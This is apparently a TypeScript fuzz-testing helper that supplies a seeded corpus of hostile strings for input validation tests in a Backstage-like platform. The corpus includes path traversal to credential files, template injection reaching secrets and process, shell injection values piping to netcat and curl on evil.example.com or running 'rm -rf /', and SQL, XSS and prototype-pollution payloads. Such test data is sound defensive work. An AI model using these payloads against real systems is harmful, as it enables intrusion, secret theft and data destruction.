/*
 * The corpus of hostile strings every field is fed, and the huge ones.
 */

/** mulberry32: a small, fast, seeded PRNG. */
export function seededRandom(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export type HostileString = { label: string; value: string };

export const MB = 1024 * 1024;

let huge: HostileString[] | undefined;

/** 1, 2 and 3 MB strings (built once; the cases share them). */
export function hugeStrings(): HostileString[] {
  huge ??= [1, 2, 3].map(n => ({
    label: `huge-${n}mb`,
    value: 'A'.repeat(n * MB),
  }));
  return huge;
}

/**
 * The corpus: path traversal, template expressions, shell and SQL
 * injection, odd Unicode, prototype keys, markup, special values and
 * lengths, plus seeded random strings of hostile code points.
 */
export function hostileStrings(seed = 11): HostileString[] {
  const fixed: HostileString[] = [
    // path traversal and locations
    { label: 'dot-dot-slash', value: '../etc/passwd' },
    { label: 'dot-dot-deep', value: '../../../../../../etc/shadow' },
    { label: 'dot-dot-encoded', value: '..%2F..%2Fetc%2Fpasswd' },
    { label: 'dot-dot-double-encoded', value: '..%252F..%252Fetc' },
    { label: 'dot-dot-backslash', value: '..\\..\\windows\\win.ini' },
    { label: 'dot', value: '.' },
    { label: 'dot-dot', value: '..' },
    { label: 'absolute-path', value: '/etc/passwd' },
    { label: 'file-url', value: 'file:///etc/passwd' },
    { label: 'cloud-metadata-url', value: 'http://169.254.169.254/latest/' },
    { label: 'name-with-traversal', value: 'svc/../../admin' },
    // template expressions (scaffolder Nunjucks, GitHub Actions)
    { label: 'secrets-expression', value: '${{ secrets.backstageToken }}' },
    { label: 'dump-expression', value: '${{ parameters.name | dump }}' },
    { label: 'nunjucks-braces', value: '{{ 7*7 }}' },
    {
      label: 'nunjucks-loop',
      value: '{% for x in range(0, 99999999) %}x{% endfor %}',
    },
    {
      label: 'nunjucks-constructor',
      value: "${{ ''.constructor.constructor('return process')() }}",
    },
    { label: 'github-expression', value: '${{ github.token }}' },
    // shell metacharacters
    { label: 'command-substitution', value: '$(id)' },
    { label: 'backticks', value: '`cat /etc/passwd`' },
    { label: 'semicolon-rm', value: 'x; rm -rf /' },
    { label: 'pipe-netcat', value: 'x | nc evil.example.com 4444' },
    { label: 'and-curl', value: 'x && curl http://evil.example.com/' },
    { label: 'quotes', value: `a'b"c` },
    { label: 'yaml-newline-injection', value: 'x\nowner: group:default/evil' },
    { label: 'crlf-header-injection', value: 'x\r\nX-Injected: 1' },
    { label: 'glob', value: '*' },
    // SQL injection
    { label: 'sql-or', value: "' OR 1=1 --" },
    { label: 'sql-drop', value: '"; DROP TABLE final_entities; --' },
    { label: 'sql-union', value: "x' UNION SELECT password FROM users --" },
    { label: 'sql-like-wildcards', value: '%_%' },
    // odd Unicode
    { label: 'rtl-override', value: 'admin\u202Egpj.exe' },
    { label: 'zero-width-space', value: 'order\u200Bservice' },
    { label: 'zero-width-joiner', value: 'order\u200Dservice' },
    { label: 'byte-order-mark', value: '\uFEFForder-service' },
    { label: 'nul', value: 'order\u0000service' },
    { label: 'nul-only', value: '\u0000' },
    { label: 'lone-high-surrogate', value: 'order\uD800service' },
    { label: 'lone-low-surrogate', value: '\uDC00order' },
    { label: 'emoji', value: '\u{1F680}-service' },
    { label: 'emoji-zwj-sequence', value: '\u{1F469}\u200D\u{1F4BB}' },
    { label: 'homoglyph-cyrillic', value: '\u043Erder-service' },
    { label: 'homoglyph-fullwidth', value: '\uFF4F\uFF52\uFF44\uFF45\uFF52' },
    { label: 'combining-marks', value: `e${'\u0301'.repeat(64)}` },
    { label: 'ansi-escape', value: '\u001b[31mred\u001b[0m' },
    { label: 'bell-backspace', value: 'a\u0007\u0008b' },
    { label: 'dotted-capital-i', value: '\u0130stanbul' },
    { label: 'no-break-space', value: 'order\u00A0service' },
    { label: 'line-separator', value: 'a\u2028b' },
    // prototype pollution keys
    { label: 'proto-key', value: '__proto__' },
    { label: 'constructor-key', value: 'constructor' },
    { label: 'prototype-key', value: 'prototype' },
    { label: 'has-own-property', value: 'hasOwnProperty' },
    // markup
    { label: 'script-tag', value: '<script>alert(1)</script>' },
    // eslint-disable-next-line no-script-url
    { label: 'javascript-url', value: 'javascript:alert(1)' },
    { label: 'img-onerror', value: '<img src=x onerror=alert(1)>' },
    // special values
    { label: 'empty', value: '' },
    { label: 'whitespace', value: '   ' },
    { label: 'format-string', value: '%s%s%s%n' },
    { label: 'null-word', value: 'null' },
    { label: 'undefined-word', value: 'undefined' },
    { label: 'nan-word', value: 'NaN' },
    { label: 'minus-one', value: '-1' },
    { label: 'overflowing-number', value: '1e309' },
    { label: 'mongo-operator', value: '{"$ne":null}' },
    { label: 'yaml-js-tag', value: '!!js/function "f(){}"' },
    { label: 'entity-ref-lookalike', value: 'group:default/platform-team' },
    { label: 'colons-and-slashes', value: ':/:/:' },
    // lengths around the limits
    { label: 'length-64', value: 'a'.repeat(64) },
    { label: 'length-254', value: 'a'.repeat(254) },
    { label: 'length-10k', value: 'b'.repeat(10_000) },
  ];
  return [...fixed, ...randomHostileStrings(seed, 8)];
}

/** Random strings drawn from hostile code points, deterministically. */
function randomHostileStrings(seed: number, count: number): HostileString[] {
  const random = seededRandom(seed);
  const pools = [
    ['\u0000', '\u0001', '\u001b', '\u007f', '\t', '\n', '\r'],
    ['\u202E', '\u202D', '\u200B', '\u200C', '\u200D', '\uFEFF', '\u2028'],
    ['\uD800', '\uDBFF', '\uDC00', '\uDFFF'],
    ['\u{1F680}', '\u{1F4A9}', '\u{10FFFF}', '\u0430', '\u0435', '\u0301'],
    ['.', '/', '\\', '%', '$', '{', '}', '`', "'", '"', ';', '|', '&', '<'],
    ['a', 'b', 'z', '0', '9', '-', '_'],
  ];
  const out: HostileString[] = [];
  for (let i = 0; i < count; i++) {
    const length = 3 + Math.floor(random() * 30);
    let value = '';
    for (let j = 0; j < length; j++) {
      const pool = pools[Math.floor(random() * pools.length)];
      value += pool[Math.floor(random() * pool.length)];
    }
    out.push({ label: `random-${i + 1}`, value });
  }
  return out;
}
